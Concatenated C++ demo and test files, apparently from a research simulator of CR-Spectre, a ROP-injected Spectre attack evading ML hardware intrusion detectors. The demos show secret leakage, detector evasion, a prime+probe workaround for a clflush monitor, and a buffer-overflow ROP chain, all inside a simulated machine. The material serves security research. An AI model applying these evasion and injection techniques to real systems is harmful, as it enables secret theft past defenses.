// The §IV arms race, as a narrative demo:
//
//   act 1 — the diluted CR-Spectre variant walks past the ML HID;
//   act 2 — the defender deploys §IV's countermeasure: a privileged
//           monitor that flags ANY unprivileged clflush activity;
//   act 3 — the attacker rebuilds the covert channel around eviction sets
//           (prime+probe): zero clflush, zero mfence — and the monitor is
//           blind again, while the secret still leaks.
#include <cstdio>

#include "attack/spectre.hpp"
#include "core/corpus.hpp"
#include "core/scenario.hpp"
#include "hid/detector.hpp"
#include "hid/features.hpp"
#include "sim/kernel.hpp"

namespace {

using namespace crs;

double flush_monitor_rate(const std::vector<hid::WindowSample>& windows) {
  if (windows.empty()) return 0.0;
  std::size_t flagged = 0;
  for (const auto& w : windows) {
    const auto f = hid::feature_vector(w.delta);
    if (f[static_cast<std::size_t>(sim::Event::kClflushes)] > 1.0) ++flagged;
  }
  return static_cast<double>(flagged) / static_cast<double>(windows.size());
}

}  // namespace

int main() {
  using namespace crs;

  std::printf("building the HID's training corpora...\n\n");
  core::CorpusConfig cc;
  cc.windows_per_class = 800;
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);
  hid::DetectorConfig dc;
  dc.classifier = "MLP";
  dc.features = hid::paper_feature_indices();
  hid::HidDetector det(dc);
  ml::Dataset init = benign;
  init.append_all(attack);
  det.fit(init);

  // Act 1: the flush+reload CR-Spectre evader.
  core::ScenarioConfig sc;
  sc.rop_injected = true;
  sc.perturb = true;
  sc.perturb_params.delay = 500;
  sc.perturb_params.loop_count = 16;
  sc.perturb_params.style = perturb::MimicStyle::kBranchy;
  sc.host_scale = 8000;
  sc.seed = 99;
  const auto run1 = core::run_scenario(sc);
  std::printf("act 1 — flush+reload CR-Spectre, diluted variant:\n");
  std::printf("  secret %s; ML HID detection %.1f%%  -> EVADED\n\n",
              run1.secret_recovered ? "STOLEN" : "safe",
              100 * det.detection_rate(run1.attack_windows));

  // Act 2: the clflush monitor.
  std::printf("act 2 — defender deploys the §IV clflush monitor "
              "(flag any window with >1 flush per kilo-instruction):\n");
  std::printf("  attack windows flagged: %.1f%%  -> CAUGHT\n\n",
              100 * flush_monitor_rate(run1.attack_windows));

  // Act 3: prime+probe.
  attack::AttackConfig acfg;
  acfg.channel = attack::CovertChannel::kPrimeProbe;
  acfg.rounds_per_byte = 3;
  acfg.embed_secret = sc.secret;
  acfg.secret_length = static_cast<std::uint32_t>(sc.secret.size());
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/pp", attack::build_attack_binary(acfg));
  const auto run3 = hid::profile_run_strings(kernel, "/bin/pp", {"pp"}, {});
  std::printf("act 3 — attacker rebuilds on prime+probe eviction sets:\n");
  std::printf("  clflush count: %llu, mfence count: %llu\n",
              static_cast<unsigned long long>(
                  machine.pmu().count(sim::Event::kClflushes)),
              static_cast<unsigned long long>(
                  machine.pmu().count(sim::Event::kMfences)));
  std::printf("  secret %s; flush monitor flags %.1f%% of windows  "
              "-> MONITOR BLIND\n",
              run3.output == sc.secret ? "STOLEN AGAIN" : "safe",
              100 * flush_monitor_rate(run3.windows));
  std::printf("  (the clean prime+probe pattern is ML-detectable at %.1f%% "
              "— the race continues)\n",
              100 * det.detection_rate(run3.windows));
  return 0;
}
