// A miniature version of the paper's headline experiment: CR-Spectre with
// defense-aware dynamic perturbation versus an online-learning HID.
//
// Prints the per-attempt detection accuracy, the perturbation variant in
// play, and the attacker's mutation decisions — the Fig. 6(b) story in a
// few seconds.
#include <cstdio>

#include "core/campaign.hpp"
#include "core/corpus.hpp"
#include "hid/features.hpp"
#include "support/strings.hpp"

int main() {
  using namespace crs;

  std::printf("building training corpora (benign apps + clean Spectre)...\n");
  core::CorpusConfig cc;
  cc.windows_per_class = 800;
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);
  std::printf("  %zu benign / %zu attack windows\n\n", benign.size(),
              attack.size());

  core::CampaignConfig cfg;
  cfg.scenario.rop_injected = true;
  cfg.scenario.perturb = true;
  cfg.scenario.perturb_params.delay = 2000;
  cfg.scenario.perturb_params.loop_count = 16;
  cfg.scenario.host_scale = 12000;
  cfg.detector.classifier = "MLP";
  cfg.detector.features = hid::paper_feature_indices();
  cfg.online_hid = true;
  cfg.dynamic_perturbation = true;
  cfg.attempts = 8;
  cfg.seed = 2026;

  std::printf("campaign: CR-Spectre (ROP-injected into basicmath) vs an "
              "online MLP HID\n");
  std::printf("evade <= %.0f%%, detected >= %.0f%% (triggers mutation)\n\n",
              100 * cfg.evade_threshold, 100 * cfg.detect_threshold);

  const auto result = core::run_campaign(cfg, benign, attack);
  for (const auto& a : result.attempts) {
    std::printf("attempt %2d: detection %5.1f%%  %s  secret %s  variant [%s]%s\n",
                a.attempt, 100 * a.detection_rate,
                a.evaded     ? "EVADED  "
                : a.detected ? "DETECTED"
                             : "partial ",
                a.secret_recovered ? "stolen" : "-lost-",
                a.params.describe().c_str(),
                a.mutated_after ? "  -> mutating" : "");
  }
  std::printf("\nmean detection %.1f%%, min %.1f%% (paper: degrades from "
              "~90%% to 16%%)\n",
              100 * result.mean_detection(), 100 * result.min_detection());
  return 0;
}
