// HPC profiler demo: run any workload from the catalogue under the
// windowed profiler and print its micro-architectural signature — the view
// the HID trains on.
//
//   $ ./workload_profiler            # profiles every workload briefly
//   $ ./workload_profiler sha 200    # one workload at a chosen scale
#include <cstdio>
#include <cstdlib>
#include <string>

#include "hid/features.hpp"
#include "hid/profiler.hpp"
#include "sim/kernel.hpp"
#include "support/strings.hpp"
#include "support/table.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

void profile_one(Table& table, const std::string& name, std::uint64_t scale) {
  workloads::WorkloadOptions opt;
  opt.scale = scale;
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/w", workloads::build_workload(name, opt));
  const auto r =
      hid::profile_run_strings(kernel, "/bin/w", {name, "input"}, {});
  if (r.windows.empty()) return;

  // Mean of the paper's six features over the run's windows.
  const auto idx = hid::paper_feature_indices();
  std::vector<double> mean(idx.size(), 0.0);
  for (const auto& w : r.windows) {
    const auto f = hid::feature_vector(w.delta);
    for (std::size_t j = 0; j < idx.size(); ++j) mean[j] += f[idx[j]];
  }
  for (auto& m : mean) m /= static_cast<double>(r.windows.size());

  table.add_row({name, std::to_string(r.windows.size()), fixed(r.ipc(), 3),
                 fixed(mean[0], 1), fixed(mean[1], 0), fixed(mean[2], 1),
                 fixed(mean[3], 2), fixed(mean[4], 0), fixed(mean[5], 0)});
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;

  Table table({"workload", "windows", "IPC", "miss/k", "acc/k", "br/k",
               "misp/k", "instr/win", "cyc/k"});

  if (argc >= 2) {
    const std::string name = argv[1];
    const std::uint64_t scale =
        argc >= 3 ? static_cast<std::uint64_t>(std::atoll(argv[2])) : 400;
    if (!workloads::is_known_workload(name)) {
      std::fprintf(stderr, "unknown workload '%s'\n", name.c_str());
      return 1;
    }
    profile_one(table, name, scale);
  } else {
    std::printf("hosts (MiBench-like):\n");
    for (const auto& w : workloads::host_catalog()) {
      std::printf("  %-13s %s\n", w.name.c_str(), w.description.c_str());
      profile_one(table, w.name, 400);
    }
    std::printf("benign pool (browsers, editors, ...):\n");
    for (const auto& w : workloads::benign_pool_catalog()) {
      std::printf("  %-13s %s\n", w.name.c_str(), w.description.c_str());
      profile_one(table, w.name, 400);
    }
    std::printf("\n");
  }

  std::printf("%s", table.render().c_str());
  std::printf("\n(features per kilo-instruction; the HID's view after "
              "measurement noise)\n");
  return 0;
}
