// The full CR-Spectre injection, step by step (paper Fig. 1):
//
//   1. harvest ROP gadgets from the host binary (GDB-style, offline),
//   2. recon the vulnerable stack frame with a benign run,
//   3. build the Listing-1 overflow payload,
//   4. pass it as the host's input: the overflow chains `pop r1; pop r0;
//      syscall` into execve("/bin/cr_spectre") and resumes the host,
//   5. the injected Spectre leaks the host's secret under its identity,
//   6. re-run with Stack Canaries and ASLR to watch both defenses stop it.
#include <cstdio>

#include "attack/spectre.hpp"
#include "rop/plan.hpp"
#include "sim/kernel.hpp"
#include "support/strings.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

constexpr const char* kSecret = "host-db-password";

sim::Program make_host(bool canary) {
  workloads::WorkloadOptions opt;
  opt.scale = 3000;
  opt.canary = canary;
  opt.secret = kSecret;
  return workloads::build_workload("basicmath", opt);
}

void attempt(const sim::Program& host, const rop::InjectionPlan& plan,
             const sim::Program& attack_bin, bool aslr, const char* label) {
  sim::KernelConfig kcfg;
  kcfg.aslr = aslr;
  sim::Machine machine;
  sim::Kernel kernel(machine, kcfg);
  kernel.register_binary("/bin/host", host);
  kernel.register_binary("/bin/cr_spectre", attack_bin);
  std::vector<std::vector<std::uint8_t>> args;
  args.emplace_back(4, 'h');  // argv[0]
  args.push_back(plan.payload.bytes);
  kernel.start("/bin/host", args);
  const auto reason = kernel.run(500'000'000);

  std::printf("[%s]\n", label);
  std::printf("  run: %s, execve fired: %s\n",
              reason == sim::StopReason::kHalted ? "completed" : "KILLED",
              kernel.execve_count() > 0 ? "yes" : "no");
  if (reason == sim::StopReason::kFault) {
    std::printf("  fault: %s\n",
                machine.cpu().fault().kind == sim::FaultKind::kStackCanary
                    ? "stack canary corruption detected"
                    : "memory fault (payload addresses invalid)");
  }
  const std::string leaked = kernel.output_string();
  std::printf("  exfiltrated: \"%s\" -> %s\n\n", leaked.c_str(),
              leaked == kSecret ? "SECRET STOLEN" : "attack failed");
}

}  // namespace

int main() {
  using namespace crs;

  const sim::Program host = make_host(/*canary=*/false);
  std::printf("host: basicmath with a %s-byte secret at %s "
              "(never accessed by the host itself)\n\n",
              std::to_string(std::string(kSecret).size()).c_str(),
              hex(host.symbol("host_secret")).c_str());

  // 1-3. The adversary's offline phase.
  rop::ReconSpec rspec;
  rspec.path = "/bin/host";
  const rop::InjectionPlan plan =
      rop::plan_injection(host, rspec, "/bin/cr_spectre");

  std::printf("gadget catalogue: %zu gadgets; the chain uses\n",
              plan.gadgets.size());
  std::printf("  pop r1; ret @ %s\n", hex(plan.payload.pop_r1_gadget).c_str());
  std::printf("  pop r0; ret @ %s\n", hex(plan.payload.pop_r0_gadget).c_str());
  std::printf("  syscall; ret @ %s\n", hex(plan.payload.syscall_gadget).c_str());
  std::printf("frame recon: buffer @ %s, saved return @ %s -> filler %llu "
              "bytes (paper: 108)\n",
              hex(plan.frame.buffer_address).c_str(),
              hex(plan.frame.return_slot).c_str(),
              static_cast<unsigned long long>(plan.frame.filler_length));
  std::printf("payload: %zu bytes (path string + filler + 6 chain words)\n\n",
              plan.payload.bytes.size());

  attack::AttackConfig acfg;
  acfg.target_secret_address = host.symbol("host_secret");
  acfg.secret_length = static_cast<std::uint32_t>(std::string(kSecret).size());
  const sim::Program attack_bin = attack::build_attack_binary(acfg);

  // 4-5. The attack run.
  attempt(host, plan, attack_bin, /*aslr=*/false, "no defenses");

  // 6. Defenses.
  const sim::Program host_canary = make_host(/*canary=*/true);
  const rop::InjectionPlan plan_canary =
      rop::plan_injection(host_canary, rspec, "/bin/cr_spectre");
  attempt(host_canary, plan_canary, attack_bin, /*aslr=*/false,
          "stack canary enabled");
  attempt(host, plan, attack_bin, /*aslr=*/true, "ASLR enabled");
  return 0;
}
