// Quickstart: run a traditional (standalone) Spectre attack inside the
// simulator and watch it recover a secret it never reads architecturally.
//
//   $ ./quickstart
//
// Walks through: generate the attack binary (inspectable assembly), run it
// under the mini-kernel, verify the exfiltrated secret, and show the
// micro-architectural fingerprint the HID would see.
#include <cstdio>

#include "attack/spectre.hpp"
#include "casm/assembler.hpp"
#include "sim/kernel.hpp"
#include "support/strings.hpp"

int main() {
  using namespace crs;

  const std::string secret = "The Magic Words are Squeamish";

  // 1. Configure the attack: Spectre-PHT, leaking its embedded secret via
  //    flush+reload with the min-latency receiver.
  attack::AttackConfig cfg;
  cfg.variant = attack::SpectreVariant::kPht;
  cfg.embed_secret = secret;
  cfg.secret_length = static_cast<std::uint32_t>(secret.size());

  // 2. The attack is a real program in the simulated ISA — print a slice.
  const sim::Program binary = attack::build_attack_binary(cfg);
  std::printf("attack binary: %llu bytes of code+data, entry %s\n",
              static_cast<unsigned long long>(binary.image_size()),
              hex(binary.entry).c_str());
  const auto listing = casm::disassemble_text(binary);
  std::printf("first instructions:\n%.400s  ...\n\n", listing.c_str());

  // 3. Run it on a fresh machine.
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/spectre", binary);
  kernel.start_with_strings("/bin/spectre", {});
  const auto reason = kernel.run(1'000'000'000);

  std::printf("run finished: %s, exit code %lld\n",
              reason == sim::StopReason::kHalted ? "halted" : "aborted",
              static_cast<long long>(kernel.exit_code()));
  std::printf("secret planted:   \"%s\"\n", secret.c_str());
  std::printf("secret recovered: \"%s\"  -> %s\n",
              kernel.output_string().c_str(),
              kernel.output_string() == secret ? "LEAKED" : "failed");

  // 4. The fingerprint a hardware detector profiles.
  const auto& pmu = machine.pmu();
  std::printf("\nmicro-architectural fingerprint of the run:\n");
  std::printf("  instructions retired : %llu\n",
              static_cast<unsigned long long>(pmu.count(sim::Event::kInstructions)));
  std::printf("  cycles               : %llu (IPC %.3f)\n",
              static_cast<unsigned long long>(pmu.count(sim::Event::kCycles)),
              static_cast<double>(pmu.count(sim::Event::kInstructions)) /
                  static_cast<double>(pmu.count(sim::Event::kCycles)));
  std::printf("  wrong-path instrs    : %llu (transient execution)\n",
              static_cast<unsigned long long>(pmu.count(sim::Event::kSpecInstructions)));
  std::printf("  L1D misses           : %llu\n",
              static_cast<unsigned long long>(pmu.count(sim::Event::kL1dMisses)));
  std::printf("  clflushes / mfences  : %llu / %llu\n",
              static_cast<unsigned long long>(pmu.count(sim::Event::kClflushes)),
              static_cast<unsigned long long>(pmu.count(sim::Event::kMfences)));
  std::printf("  branch mispredicts   : %llu\n",
              static_cast<unsigned long long>(pmu.count(sim::Event::kBranchMispredicts)));
  return kernel.output_string() == secret ? 0 : 1;
}
