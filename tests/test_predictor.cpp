#include <gtest/gtest.h>

#include "sim/branch_predictor.hpp"

namespace crs::sim {
namespace {

TEST(Pht, StartsWeaklyNotTaken) {
  PatternHistoryTable pht(64);
  EXPECT_FALSE(pht.predict_taken(0x100));
  EXPECT_EQ(pht.counter(0x100), 1);
}

TEST(Pht, TwoTakenFlipsPrediction) {
  PatternHistoryTable pht(64);
  pht.update(0x100, true);
  EXPECT_TRUE(pht.predict_taken(0x100));  // 1 -> 2 = weakly taken
}

TEST(Pht, SaturatesAtBounds) {
  PatternHistoryTable pht(64);
  for (int i = 0; i < 10; ++i) pht.update(0x100, true);
  EXPECT_EQ(pht.counter(0x100), 3);
  for (int i = 0; i < 10; ++i) pht.update(0x100, false);
  EXPECT_EQ(pht.counter(0x100), 0);
}

TEST(Pht, MistrainingScenario) {
  // Spectre-PHT: repeated in-bounds executions drive the bounds-check
  // branch to strongly not-taken; one out-of-bounds execution must still
  // be predicted not-taken (i.e. mispredicted).
  PatternHistoryTable pht(4096);
  const std::uint64_t pc = 0x10048;
  for (int i = 0; i < 8; ++i) pht.update(pc, false);
  EXPECT_FALSE(pht.predict_taken(pc));
  pht.update(pc, true);  // the OOB attempt resolves taken
  EXPECT_FALSE(pht.predict_taken(pc)) << "one update must not flip saturation";
}

TEST(Pht, DistinctPcsUseDistinctCounters) {
  PatternHistoryTable pht(4096);
  pht.update(0x100, true);
  pht.update(0x100, true);
  EXPECT_TRUE(pht.predict_taken(0x100));
  EXPECT_FALSE(pht.predict_taken(0x108));
}

TEST(Btb, EmptyPredictsNothing) {
  BranchTargetBuffer btb(64);
  EXPECT_FALSE(btb.predict(0x100).has_value());
}

TEST(Btb, RemembersLastTarget) {
  BranchTargetBuffer btb(64);
  btb.update(0x100, 0x2000);
  ASSERT_TRUE(btb.predict(0x100).has_value());
  EXPECT_EQ(*btb.predict(0x100), 0x2000u);
  btb.update(0x100, 0x3000);
  EXPECT_EQ(*btb.predict(0x100), 0x3000u);
}

TEST(Btb, TagMismatchMisses) {
  BranchTargetBuffer btb(64);
  btb.update(0x100, 0x2000);
  // Same index (64 entries, stride 8*64=512), different pc tag.
  EXPECT_FALSE(btb.predict(0x100 + 512).has_value());
}

TEST(Rsb, LifoOrder) {
  ReturnStackBuffer rsb(16);
  rsb.push(1);
  rsb.push(2);
  rsb.push(3);
  EXPECT_EQ(rsb.pop(), 3u);
  EXPECT_EQ(rsb.pop(), 2u);
  EXPECT_EQ(rsb.pop(), 1u);
}

TEST(Rsb, UnderflowReturnsNullopt) {
  ReturnStackBuffer rsb(4);
  EXPECT_FALSE(rsb.pop().has_value());
  rsb.push(7);
  EXPECT_TRUE(rsb.pop().has_value());
  EXPECT_FALSE(rsb.pop().has_value());
}

TEST(Rsb, OverflowWrapsOverwritingOldest) {
  ReturnStackBuffer rsb(2);
  rsb.push(1);
  rsb.push(2);
  rsb.push(3);  // overwrites 1
  EXPECT_EQ(rsb.depth(), 2u);
  EXPECT_EQ(rsb.pop(), 3u);
  EXPECT_EQ(rsb.pop(), 2u);
  EXPECT_FALSE(rsb.pop().has_value());
}

TEST(Rsb, ClearEmpties) {
  ReturnStackBuffer rsb(8);
  rsb.push(1);
  rsb.clear();
  EXPECT_EQ(rsb.depth(), 0u);
  EXPECT_FALSE(rsb.pop().has_value());
}

TEST(Predictor, FacadeBundlesStructures) {
  BranchPredictor bp;
  bp.pht().update(0x10, true);
  bp.btb().update(0x10, 0x20);
  bp.rsb().push(0x30);
  EXPECT_EQ(bp.rsb().depth(), 1u);
  EXPECT_TRUE(bp.btb().predict(0x10).has_value());
}

}  // namespace
}  // namespace crs::sim
