// Copy-on-write machine forking: the replication contract.
//
// The fork engine hangs on one promise — a machine forked from a frozen
// baseline is indistinguishable from a freshly constructed one, and
// therefore `--cow` is a cost switch, not a results switch. These tests pin
// that promise at every layer: raw machine runs, scenario sessions,
// defense-matrix and harden-sweep CSV bytes across cow × snapshot × thread
// counts, and the MachinePool's LRU behaviour (bounded entries, bounded
// shared-image refcounts) under fork churn.
#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "core/defense_matrix.hpp"
#include "core/harden_matrix.hpp"
#include "core/report.hpp"
#include "core/scenario.hpp"
#include "sim/snapshot.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "workloads/workloads.hpp"

namespace crs {
namespace {

/// Scoped cow-mode override (restores the previous mode on exit).
class CowMode {
 public:
  explicit CowMode(bool enabled) : prev_(cow_enabled()) {
    set_cow_enabled(enabled);
  }
  ~CowMode() { set_cow_enabled(prev_); }

 private:
  bool prev_;
};

class FastResetMode {
 public:
  explicit FastResetMode(bool enabled) : prev_(fast_reset_enabled()) {
    set_fast_reset_enabled(enabled);
  }
  ~FastResetMode() { set_fast_reset_enabled(prev_); }

 private:
  bool prev_;
};

/// Everything observable about one raw kernel run of a real workload.
std::string machine_fingerprint(sim::Machine& machine) {
  sim::Kernel kernel(machine);
  workloads::WorkloadOptions opt;
  opt.scale = 4;
  kernel.register_binary("/bin/fork",
                         workloads::build_workload("basicmath", opt));
  kernel.start_with_strings("/bin/fork", {"benign"});
  const sim::StopReason stop = kernel.run(200'000'000);
  std::ostringstream os;
  os << static_cast<int>(stop) << '|'
     << machine.memory().read_u64(kernel.resolved_symbol("/bin/fork", "result"))
     << '|' << machine.cpu().retired() << '|' << machine.cpu().cycle() << '|'
     << machine.pmu().count(sim::Event::kL1dMisses) << '|'
     << machine.pmu().count(sim::Event::kBranchMispredicts);
  return os.str();
}

TEST(MachineFork, ForkedRunMatchesFreshRunBitForBit) {
  const sim::MachineConfig config;
  std::string fresh;
  {
    sim::Machine machine(config);
    fresh = machine_fingerprint(machine);
  }
  const auto base = sim::shared_baseline(config);
  for (int i = 0; i < 2; ++i) {
    sim::Machine fork(*base);
    EXPECT_TRUE(fork.memory().is_cow());
    EXPECT_EQ(fork.memory().resident_bytes(), 0u);  // nothing dirtied yet
    EXPECT_EQ(machine_fingerprint(fork), fresh) << "fork " << i;
    // The run dirtied only the pages it touched, not the address space.
    EXPECT_GT(fork.memory().promoted_pages(), 0u);
    EXPECT_LT(fork.memory().resident_bytes(), config.memory_size / 2);
  }
}

TEST(MachineFork, SnapshotRestoreWorksOnAFork) {
  const sim::MachineConfig config;
  sim::Machine fork(*sim::shared_baseline(config));
  sim::MachineSnapshot snap = fork.snapshot();
  EXPECT_EQ(snap.stored_page_count(), 0u);  // fork of a pristine baseline

  const std::string first = machine_fingerprint(fork);
  fork.restore(snap);
  EXPECT_GT(snap.last_restored_pages(), 0u);
  EXPECT_EQ(machine_fingerprint(fork), first);  // restored ≡ fresh fork
}

TEST(MachineFork, SiblingForksDivergeIndependently) {
  const sim::MachineConfig config;
  const auto base = sim::shared_baseline(config);
  sim::Machine a(*base);
  sim::Machine b(*base);
  // Self-modifying divergence: write different bytes into the same page of
  // each sibling; the shared image and the other fork must not see them.
  a.memory().write_u64(0x1000, 0x11);
  b.memory().write_u64(0x1000, 0x22);
  EXPECT_EQ(a.memory().read_u64(0x1000), 0x11ull);
  EXPECT_EQ(b.memory().read_u64(0x1000), 0x22ull);
  sim::Machine c(*base);
  EXPECT_EQ(c.memory().read_u64(0x1000), 0u);
}

core::ScenarioConfig fork_scenario() {
  core::ScenarioConfig config;
  config.host = "basicmath";
  config.host_scale = 300;
  config.secret = "FORK-SECRET-16BB";
  config.rop_injected = true;
  config.perturb = true;
  config.seed = 101;
  return config;
}

std::string scenario_fingerprint(const core::ScenarioRun& run) {
  std::ostringstream os;
  os << core::windows_to_csv(run.profile.windows);
  os << run.attack_launched << ':' << run.secret_recovered << ':'
     << run.recovered << ':' << run.host_ipc << ':' << run.profile.cycles
     << ':' << run.profile.instructions;
  return os.str();
}

TEST(CowEquivalence, ScenarioIdenticalAcrossCowAndSnapshotModes) {
  const core::ScenarioConfig config = fork_scenario();
  std::string expected;
  {
    CowMode cow_off(false);
    FastResetMode snap_off(false);
    expected = scenario_fingerprint(core::run_scenario(config));
  }
  const bool grid[][2] = {{true, true}, {true, false}, {false, true}};
  for (const auto& [cow, snap] : grid) {
    CowMode c(cow);
    FastResetMode f(snap);
    EXPECT_EQ(scenario_fingerprint(core::run_scenario(config)), expected)
        << "cow=" << cow << " snapshot=" << snap;
  }
}

TEST(CowEquivalence, DefenseMatrixBytesIdenticalCowOnOff) {
  core::DefenseMatrixConfig config;
  config.quick = true;
  config.seed = 33;
  config.host_scale = 600;
  config.presets = {"none", "lfence-bounds"};

  const auto csv_at = [&](bool cow, unsigned threads) {
    CowMode c(cow);
    set_thread_override(threads);
    const std::string csv = core::matrix_csv(core::run_defense_matrix(config));
    set_thread_override(0);
    return csv;
  };
  const std::string expected = csv_at(false, 1);
  EXPECT_EQ(csv_at(true, 1), expected);
  EXPECT_EQ(csv_at(true, 2), expected);
  EXPECT_EQ(csv_at(true, 8), expected);
  EXPECT_EQ(csv_at(false, 8), expected);
}

TEST(CowEquivalence, HardenSweepBytesIdenticalCowOnOff) {
  core::HardenMatrixConfig config;
  config.quick = true;
  config.seed = 44;
  config.host_scale = 600;
  config.presets = {"none", "canary"};

  const auto csv_at = [&](bool cow, unsigned threads) {
    CowMode c(cow);
    set_thread_override(threads);
    const std::string csv =
        core::harden_matrix_csv(core::run_harden_matrix(config));
    set_thread_override(0);
    return csv;
  };
  const std::string expected = csv_at(false, 1);
  EXPECT_EQ(csv_at(true, 2), expected);
  EXPECT_EQ(csv_at(true, 1), expected);
}

// --- satellite: MachinePool LRU under fork churn ------------------------

TEST(MachinePoolFork, PoolAndImageRefcountsStayBoundedUnderChurn) {
  CowMode cow_on(true);
  FastResetMode on(true);

  sim::MachineConfig configs[3];
  configs[1].cpu.decode_cache = false;
  configs[2].memory_size = 8 * 1024 * 1024;
  const auto base0 = sim::shared_baseline(configs[0]);
  // Steady-state references: registry + our handle here. Live forks add
  // one each; evicted/destroyed forks must give theirs back.
  const long idle = base0->image_use_count();

  sim::MachinePool pool(2);  // smaller than the config set → constant churn
  for (int cycle = 0; cycle < 3000; ++cycle) {
    sim::Machine& m = pool.acquire(configs[cycle % 3]);
    // Dirty a page so forks allocate (and must release) private frames.
    m.memory().write_u64(64, static_cast<std::uint64_t>(cycle));
    ASSERT_LE(pool.size(), 2u);
    // At most `capacity` pooled forks of this baseline can be live.
    ASSERT_LE(base0->image_use_count(), idle + 2);
  }
  EXPECT_EQ(pool.size(), 2u);
  EXPECT_GT(pool.forks(), 0u);
  // Round-robin over capacity+1 configs evicts every time; re-acquiring the
  // most recent config is the pooled-fork hit path (restore, not re-fork).
  const std::uint64_t forks_before = pool.forks();
  (void)pool.acquire(configs[2]);
  EXPECT_EQ(pool.hits(), 1u);
  EXPECT_EQ(pool.forks(), forks_before);
  // Pool death releases every fork's image reference.
  {
    sim::MachinePool ephemeral(4);
    (void)ephemeral.acquire(configs[0]);
    EXPECT_EQ(base0->image_use_count(), idle + 1);
  }
  EXPECT_EQ(base0->image_use_count(), idle);
}

TEST(MachinePoolFork, AcquiredForkIsRestoredToPristine) {
  CowMode cow_on(true);
  FastResetMode on(true);
  sim::MachinePool pool(2);
  const sim::MachineConfig config;

  sim::Machine& m = pool.acquire(config);
  EXPECT_TRUE(m.memory().is_cow());
  m.memory().set_permissions(0, sim::Memory::kPageSize, sim::kPermRW);
  m.memory().write_u64(64, 0xDEADBEEF);

  sim::Machine& m2 = pool.acquire(config);
  EXPECT_EQ(&m2, &m);  // pooled fork reused...
  EXPECT_EQ(m2.memory().read_u64(64), 0u);  // ...and rolled back
  EXPECT_EQ(m2.memory().permissions_at(0), sim::kPermNone);
  EXPECT_GT(m2.memory().page_version(0), 1u);  // versions only advance
}

TEST(CowConfigReporting, BenchConfigJsonCarriesCowState) {
  {
    CowMode on(true);
    EXPECT_NE(core::bench_config_json().find("\"cow\":\"on\""),
              std::string::npos);
  }
  CowMode off(false);
  EXPECT_NE(core::bench_config_json().find("\"cow\":\"off\""),
            std::string::npos);
}

}  // namespace
}  // namespace crs
