// Tier-8: the host hardening layer and the speculative attacks against it.
//
// Pins the subsystem's four contracts:
//  - determinism: randomized image/stack bases are a pure function of the
//    kernel seed (same seed ⇒ same layout, any construction path),
//  - the defenses work architecturally: a canary smash aborts before the
//    ROP chain runs, a heap overflow tears a redzone and faults on free,
//  - the speculative bypass works: the probe binary leaks base delta,
//    canary value and stack pointer that match the kernel's ground truth,
//  - the scenario layer composes: hardened sessions restore ≡ fresh, and
//    the leak-parameterized injection still lands under full hardening.
#include <gtest/gtest.h>

#include <cstdint>
#include <sstream>
#include <string>
#include <vector>

#include "attack/spectre11.hpp"
#include "core/harden_matrix.hpp"
#include "core/scenario.hpp"
#include "harden/config.hpp"
#include "support/error.hpp"
#include "harden/probe.hpp"
#include "harness.hpp"
#include "sim/snapshot.hpp"
#include "workloads/workloads.hpp"

namespace crs {
namespace {

using test::SimHarness;

TEST(HardenConfig, PresetRoundTrip) {
  for (const std::string& name : harden::preset_names()) {
    const harden::HardenConfig c = harden::preset(name);
    EXPECT_EQ(c.serialize(), name);
    EXPECT_EQ(harden::HardenConfig::parse(name), c);
  }
  EXPECT_FALSE(harden::preset("none").any());
  EXPECT_TRUE(harden::preset("full").any());
}

TEST(HardenConfig, FlagListRoundTrip) {
  const harden::HardenConfig c = harden::HardenConfig::parse("aslr,canary");
  EXPECT_TRUE(c.aslr);
  EXPECT_TRUE(c.canary);
  EXPECT_FALSE(c.heap_guard);
  EXPECT_EQ(harden::HardenConfig::parse(c.serialize()), c);
}

TEST(HardenConfig, UnknownTokenThrowsWithListing) {
  try {
    harden::HardenConfig::parse("aslr,bogus");
    FAIL() << "expected crs::Error";
  } catch (const Error& e) {
    const std::string msg = e.what();
    EXPECT_NE(msg.find("bogus"), std::string::npos);
    EXPECT_NE(msg.find("heap-guard"), std::string::npos);
  }
}

TEST(HardenConfig, ApplyLowersOntoKernelConfig) {
  sim::KernelConfig kcfg;
  harden::preset("full").apply(kcfg);
  EXPECT_TRUE(kcfg.aslr);
  EXPECT_TRUE(kcfg.aslr_stack);
  EXPECT_TRUE(kcfg.heap_guard);

  sim::KernelConfig plain;
  harden::preset("canary").apply(plain);
  EXPECT_FALSE(plain.aslr);
  EXPECT_FALSE(plain.aslr_stack);
  EXPECT_FALSE(plain.heap_guard);
}

sim::KernelConfig hardened_kcfg(std::uint64_t seed) {
  sim::KernelConfig kcfg;
  kcfg.seed = seed;
  harden::preset("full").apply(kcfg);
  return kcfg;
}

TEST(HardenKernel, BaseRandomizationDeterministicPerSeed) {
  const std::string src = "_start:\n  movi r1, 0\n  call exit_\n";
  std::uint64_t delta[3];
  std::uint64_t sp[3];
  const std::uint64_t seeds[3] = {7, 7, 8};
  for (int i = 0; i < 3; ++i) {
    SimHarness h(hardened_kcfg(seeds[i]));
    h.add_program(src, "/bin/t");
    h.kernel().start_with_strings("/bin/t", {"arg"});
    delta[i] = h.kernel().main_image().base_delta;
    sp[i] = h.machine().cpu().sp();
    EXPECT_EQ(h.kernel().harden_stats().stacks_randomized, 1u);
    EXPECT_EQ(h.kernel().harden_stats().images_randomized, 1u);
  }
  EXPECT_EQ(delta[0], delta[1]);
  EXPECT_EQ(sp[0], sp[1]);
  // Distinct seeds shift the layout (delta and stack draws together make a
  // same-layout collision astronomically unlikely for these two seeds).
  EXPECT_TRUE(delta[0] != delta[2] || sp[0] != sp[2]);
}

TEST(HardenKernel, CanarySmashAbortsBeforeHijack) {
  workloads::WorkloadOptions wopt;
  wopt.scale = 5;
  wopt.canary = true;
  wopt.secret = "S";
  SimHarness h;
  h.kernel().register_binary("/host",
                             workloads::build_workload("bitcount", wopt));
  // A 300-byte argv[1] smashes through the frame, the canary slot and the
